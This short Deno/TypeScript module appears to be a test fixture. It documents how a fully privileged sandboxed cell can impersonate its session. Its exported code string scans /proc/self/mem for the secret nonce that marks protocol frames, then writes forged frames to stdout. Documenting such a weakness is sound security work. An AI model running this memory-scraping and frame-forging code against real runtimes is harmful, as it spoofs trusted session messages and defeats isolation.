/**
 * How a cell makes its session say what is not so.
 *
 * What marks frames lies in the memory of the process that the cell runs in, so
 * nothing there can keep it secret. Cells with fewer rights have found other
 * ways, such as a replaced built-in; this one can not be closed.
 * @module
 */

/**
 * A cell that finds the mark of frames in its memory; `forge(event)` then says
 * anything in the name of the session. Needs all permissions, and Linux.
 */
export const FORGE = String.raw`
const memory = Deno.openSync("/proc/self/mem");
function findNonce() {
  const frame = /([\s\S]{16})[\x80-\xff]{2}[\x00-\x03][\x80-\xff]{2}\{"type":"/;
  for (const line of Deno.readTextFileSync("/proc/self/maps").split("\n")) {
    const region = /^(\w+)-(\w+) rw/.exec(line);
    if (!region) continue;
    const [start, end] = [parseInt(region[1], 16), parseInt(region[2], 16)];
    if (end - start > 2 ** 26) continue;
    const bytes = new Uint8Array(end - start);
    try {
      memory.seekSync(start, Deno.SeekMode.Start);
      memory.readSync(bytes);
    } catch {
      continue;
    }
    const text = Array.from(
      { length: Math.ceil(bytes.length / 65536) },
      (_, i) => String.fromCharCode(...bytes.subarray(i * 65536, i * 65536 + 65636)),
    );
    for (const part of text) {
      const found = frame.exec(part);
      if (found) return Uint8Array.from(found[1], (char) => char.charCodeAt(0));
    }
  }
  throw new Error("no frame in memory");
}
console.log("a frame");
const nonce = findNonce();
const descriptor = Deno.openSync("/proc/self/fd/1", { write: true });
function forge(event) {
  const json = new TextEncoder().encode(JSON.stringify(event));
  const { length } = json;
  const head = [...nonce, 0xff, 0xff, 0, 0x80 | (length >> 7), 0x80 | length];
  descriptor.writeSync(new Uint8Array([...head, ...json]));
}
`;
